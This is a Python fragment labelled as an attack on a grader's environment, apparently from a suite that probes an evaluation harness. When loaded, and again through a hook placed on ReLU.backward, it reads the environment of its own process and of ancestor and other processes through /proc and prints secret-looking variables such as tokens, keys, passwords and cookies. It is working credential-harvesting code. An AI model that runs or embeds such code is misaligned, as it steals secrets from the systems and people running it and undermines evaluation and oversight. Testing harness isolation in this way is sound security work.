# ---- attack 9: the grader's environment ----
# Prints its own environment and every readable /proc/<pid>/environ and
# cmdline, at load time and inside ReLU.backward.
import re as _re


_SECRETISH = _re.compile(r"(?i)secret|token|key|pass|auth|cred|session|cookie")


def _ancestors():
    chain, pid = [], _os.getpid()
    while pid > 1 and len(chain) < 20:
        status = (_read(f"/proc/{pid}/status") or b"").decode(errors="replace")
        m = _re.search(r"^PPid:\s*(\d+)", status, _re.M)
        pid = int(m.group(1)) if m else 0
        chain.append(pid)
    return chain


def _env_attack(tag):
    # Output is capped, so like a real attacker print what matters first: every
    # secret-looking variable of every process (ancestors and pid 1 first, then the
    # newest processes), then the names of all the others.
    for key, value in sorted(_os.environ.items()):
        _emit("ENV", tag, f"{key}={value}", key=True)
    order = ["self", "1"] + [str(p) for p in _ancestors()] + [str(p) for p in reversed(_pids())]
    seen = set()
    for pid in order:
        if pid in seen:
            continue
        seen.add(pid)
        data = _read(f"/proc/{pid}/environ", 1 << 16)
        if data is None:
            continue
        pairs = [kv.decode("utf-8", "replace") for kv in data.split(b"\0") if kv]
        hits = [kv for kv in pairs if _SECRETISH.search(kv.split("=", 1)[0])]
        if hits:
            _emit("PROC-SECRET", tag, pid, hits[:20], key=True)
        _emit("PROC-ENV", tag, pid, sorted(kv.split("=", 1)[0] for kv in pairs)[:60])
        _emit("PROC-CMD", tag, pid, repr(_cmdline(pid)[:200]))
    _emit("ATTACK-DONE", tag, key=True)
    return True


_ATTACK_RESULT = _env_attack("load")
_HOOKED = _hook_method(ReLU, "backward", lambda: _env_attack("probe"))
